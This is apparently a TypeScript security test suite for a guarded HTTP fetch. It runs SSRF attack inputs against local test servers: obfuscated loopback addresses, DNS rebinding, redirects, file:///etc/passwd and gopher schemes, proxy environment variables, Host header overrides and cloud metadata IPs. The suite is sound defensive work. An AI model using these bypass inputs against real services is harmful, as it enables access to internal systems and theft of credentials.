import { once } from 'node:events'
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import { type AddressInfo, connect } from 'node:net'
import { env } from 'node:process'
import { after } from 'node:test'
import { type buildConnector, EnvHttpProxyAgent, fetch as plainFetch } from 'undici'
import type { GuardedFetch, GuardOptions } from '#infra/http/guarded-fetch.ts'
import { type Code, type Edit, holds } from '../support/without.ts'
import { houseOf, through } from './house.ts'

const edit = (file: string, is: string, without: string): Edit => ({ file, is, without })
const GUARD = 'infra/http/address-guard.ts'
const FETCH = 'infra/http/guarded-fetch.ts'

type Serve = (request: IncomingMessage, response: ServerResponse) => void
const servers: Server[] = []
after(() => {
  for (const server of servers) server.closeAllConnections()
  for (const server of servers) server.close()
})

async function serve(work: Serve): Promise<number> {
  const server = createServer(work)
  servers.push(server)
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  return (server.address() as AddressInfo).port
}

/** A service of the inside, which nothing of ours may ever reach by an address that somebody typed. */
const hits: string[] = []
const inside = await serve((request, response) => {
  hits.push(`${request.headers.host} ${request.headers.authorization ?? ''}`.trim())
  response.end('the inside')
})
/** The outside world: what is said of it in each attack. */
let outsideServes: Serve = () => undefined
const outside = await serve((request, response) => outsideServes(request, response))

type Target = Pick<GuardedFetch, 'fetch'>

const guardWith =
  (options: GuardOptions) =>
  async (code: Code): Promise<Target> =>
    (await code<typeof import('#infra/http/guarded-fetch.ts')>(FETCH)).createGuardedFetch({
      ports: [inside, outside],
      timeoutMs: 1_000,
      ...options,
    })

async function hitsOf(work: () => Promise<unknown>): Promise<string[]> {
  hits.length = 0
  await work()
  return [...hits]
}

const NAMES: Record<string, string[]> = {
  'inside.example': ['127.0.0.1'],
  'both.example': ['127.0.0.1', '93.184.216.34'],
  'mapped.example': ['::ffff:127.0.0.1'],
}

holds('[S14] a name that leads inside, if only with one of its addresses, is not called', {
  open: guardWith({ resolve: async (name) => NAMES[name] ?? [] }),
  attack: ({ fetch: call }) =>
    hitsOf(async () => {
      for (const name of Object.keys(NAMES)) await call(`http://${name}:${inside}/`)
    }),
  without: edit(GUARD, 'if (!addresses.every(isPublicAddress))', 'if (false)'),
})

const WRITTEN = ['127.0.0.1', '127.1', '0x7f000001', '2130706433', '0177.0.0.1', '0.0.0.0', '[::ffff:7f00:1]']

holds('[S13] an address of the inside is not called, however it is written', {
  open: guardWith({}),
  attack: ({ fetch: call }) =>
    hitsOf(async () => {
      for (const host of WRITTEN) await call(`http://${host}:${inside}/`)
    }),
  without: [
    edit(GUARD, 'if (!addresses.every(isPublicAddress))', 'if (false)'),
    edit(
      GUARD,
      "return isPublicAddress(literal) ? { kind: 'ok', url } : blocked('private_address')",
      "return { kind: 'ok', url }",
    ),
  ],
})

holds('[S15] the connection goes to the address that was judged, not to what the name says a moment later', {
  open: guardWith({
    resolve: async () => ['93.184.216.34'],
    // The second answer of the attacker's name server is the inside; the judged address leads nowhere here.
    dial: ((options, callback) => {
      if (options.hostname !== 'rebind.example') return callback(new Error('outside'), null)
      const socket = connect(inside, '127.0.0.1', () => callback(null, socket))
    }) satisfies buildConnector.connector,
  }),
  attack: ({ fetch: call }) => hitsOf(() => call(`http://rebind.example:${inside}/`)),
  without: edit(FETCH, 'connect = pinned(connectTo, found.addresses[0]!)', 'void found'),
})

holds('[S16] [S17] somebody who is allowed leads nowhere else by a redirect, whatever its number', {
  open: guardWith({ allowOrigins: [`http://127.0.0.1:${outside}`] }),
  attack: ({ fetch: call }) =>
    hitsOf(async () => {
      for (const status of [301, 302, 303, 307, 308]) {
        outsideServes = (_, response) =>
          void response.writeHead(status, { location: `http://127.0.0.1:${inside}/` }).end()
        await call(`http://127.0.0.1:${outside}/`, { method: 'POST', body: 'x', headers: { authorization: 'secret' } })
      }
    }),
  // What every client does that nobody has told otherwise.
  async without(target) {
    target.fetch = async (address, request) => {
      const { method = 'GET', headers = {} } = request ?? {}
      await fetch(address, { method, headers })
      return { kind: 'blocked', reason: 'host' }
    }
  },
})

holds('[S18] neither another port nor another scheme is called', {
  open: guardWith({ ports: [443], resolve: async () => ['93.184.216.34'], dial: toInside() }),
  attack: ({ fetch: call }) =>
    hitsOf(async () => {
      const hosts = [`http://public.example:${inside}/`, 'http://public.example:5432/', 'http://public.example:22/']
      for (const address of [...hosts, 'file:///etc/passwd', 'gopher://public.example:70/', 'ftp://public.example/']) {
        await call(address)
      }
    }),
  without: edit(GUARD, "if (!ports.includes(port)) return blocked('port')", ''),
})

holds('[S22] what the environment says of proxies leads no call there', {
  open: guardWith({
    resolve: async () => ['93.184.216.34'],
    dial: (_options, callback) => callback(new Error('far'), null),
  }),
  async attack({ fetch: call }) {
    const names = ['http_proxy', 'HTTP_PROXY', 'https_proxy', 'HTTPS_PROXY', 'all_proxy']
    for (const name of names) env[name] = `http://127.0.0.1:${inside}`
    const got = await hitsOf(() => call(`http://public.example:${outside}/`))
    for (const name of names) delete env[name]
    return got
  },
  // What a client does that believes them.
  async without(target) {
    target.fetch = async (address) => {
      const dispatcher = new EnvHttpProxyAgent()
      await plainFetch(address, { dispatcher }).catch(() => undefined)
      await dispatcher.close()
      return { kind: 'blocked', reason: 'host' }
    }
  },
})

/** Every address is the inside, so that only the judgement before keeps a call out. */
function toInside(): buildConnector.connector {
  return (_options, callback) => {
    const socket = connect(inside, '127.0.0.1', () => callback(null, socket))
  }
}

holds('[S21] a secret that belongs to one host goes to no other', {
  open: guardWith({ resolve: async () => ['93.184.216.34'], dial: toInside() }),
  attack: ({ fetch: call }) =>
    hitsOf(() =>
      call(`http://thief.example:${inside}/`, {
        headers: { authorization: 'Bearer kanarienvogel' },
        onlyOrigins: ['https://crm.example'],
      }),
    ),
  without: edit(FETCH, 'if (request.onlyOrigins !== undefined &&', 'if (false &&'),
})

holds('[S19] headers that decide where a request goes are not for flows to write', {
  open: guardWith({ resolve: async () => ['93.184.216.34'], dial: toInside() }),
  attack: ({ fetch: call }) =>
    hitsOf(async () => {
      for (const name of ['Host', 'host', 'HOST']) {
        await call(`http://public.example:${inside}/`, { headers: { [name]: 'metadata.internal' } })
      }
    }),
  without: edit(FETCH, 'if (Object.keys(request.headers ?? {}).some(', 'if ([].some('),
})

holds('[S20] an answer without end is cut at its bound', {
  open: guardWith({ allowOrigins: [`http://127.0.0.1:${outside}`], timeoutMs: 1_500 }),
  async attack({ fetch: call }) {
    let sentBytes = 0
    const piece = Buffer.alloc(256 * 1024)
    outsideServes = (_, response) => {
      const more = () => {
        while (!response.destroyed && sentBytes < 64 * 1024 * 1024) {
          sentBytes += piece.length
          if (!response.write(piece)) return void response.once('drain', more)
        }
        response.end()
      }
      more()
    }
    await call(`http://127.0.0.1:${outside}/`)
    // What the sockets hold between the two is not read by anybody.
    return sentBytes > 16 * 1024 * 1024 ? [`${sentBytes} bytes`] : []
  },
  without: edit(FETCH, 'if (sizeBytes <= bytesMax) return', 'return'),
})

holds('[S13] [S18] [S19] a webhook to the inside is not even saved', {
  open: await houseOf(),
  async attack(house) {
    const owner = await house.owner()
    const save = (url: string) => () =>
      owner.request('POST', '/webhook-subscriptions', { name: 'Desk', url, events: ['conversation.closed'] })
    const hosts = [...WRITTEN, '169.254.169.254', '[fd00:ec2::254]', '10.0.0.1', '100.64.0.1', '[64:ff9b::a9fe:a9fe]']
    return through(Object.fromEntries(hosts.map((host) => [host, save(`https://${host}/hook`)])))
  },
  without: edit(
    GUARD,
    "return isPublicAddress(literal) ? { kind: 'ok', url } : blocked('private_address')",
    "return { kind: 'ok', url }",
  ),
})
